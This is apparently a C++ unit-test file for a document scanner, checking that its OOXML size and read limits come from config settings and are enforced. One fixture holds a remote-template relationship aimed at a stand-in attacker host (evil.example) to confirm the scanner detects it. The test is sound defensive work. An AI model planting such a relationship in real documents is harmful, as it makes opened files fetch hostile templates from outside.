// The OOXML module's read limits are [limits] settings (ooxml_read_budget,
// ooxml_max_xml_part, ...), parsed from the config and applied by the
// package reader.
#include <gtest/gtest.h>

#include "emogate/scanner.h"
#include "office_fixtures.h"

using namespace emogate;
using namespace emogate::test;

namespace {

const std::pair<std::string, std::string> kTypes{"[Content_Types].xml", "<Types/>"};
const std::string kRootRels =
    R"(<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>)";

}  // namespace

TEST(OoxmlLimits, ReadBudgetIsAConfigSetting) {
  const std::string pkg = zip_bytes({kTypes, {"_rels/.rels", kRootRels},
                                     {"xl/workbook.xml", "<workbook>" + std::string(3u << 20, ' ') + "</workbook>"}});
  const Report plain = Scanner(Config{}).scan_file(pkg, "big.xlsx");
  EXPECT_FALSE(has_finding(plain, FindingType::limit_exceeded, {.limit = "ooxml_read_budget"})) << to_json(plain);

  Config c = parse_config("[limits]\nooxml_read_budget = \"2M\"\n", "x.toml");
  EXPECT_EQ(c.limits.ooxml_read_budget, 2u << 20);
  const Report cut = Scanner(c).scan_file(pkg, "big.xlsx");
  const Finding* f = find_finding(cut, FindingType::limit_exceeded, {.limit = "ooxml_read_budget"});
  ASSERT_NE(f, nullptr) << to_json(cut);
  EXPECT_EQ(f->path, "big.xlsx");
  EXPECT_NE(f->detail.find("read 2 MB"), std::string::npos) << f->detail;
}

TEST(OoxmlLimits, RelationshipPartCapIsAConfigSetting) {
  const std::string rels = "<Relationships>" + std::string(16u << 10, ' ') +
                           R"(<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" )"
                           R"(Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>)";
  const std::string pkg = zip_bytes({kTypes, {"word/_rels/settings.xml.rels", rels}, {"word/settings.xml", "<settings/>"}});
  const Report full = Scanner(Config{}).scan_file(pkg, "t.docx");
  EXPECT_TRUE(has_finding(full, FindingType::remote_template, {.detail = "evil.example"})) << to_json(full);

  Config c = parse_config("[limits]\nooxml_max_xml_part = \"8K\"\n", "x.toml");
  const Report cut = Scanner(c).scan_file(pkg, "t.docx");
  EXPECT_FALSE(has_finding(cut, FindingType::remote_template, {.detail = "evil.example"})) << to_json(cut);
}

TEST(OoxmlLimits, SettingsAreRangeChecked) {
  EXPECT_THROW(parse_config("[limits]\nooxml_max_entries = 0\n", "x.toml"), ConfigError);
  EXPECT_THROW(parse_config("[limits]\nooxml_max_xml_part = 10\n", "x.toml"), ConfigError);
  EXPECT_EQ(parse_config("[limits]\nooxml_max_part = \"1M\"\n", "x.toml").limits.ooxml_max_part, 1u << 20);
}
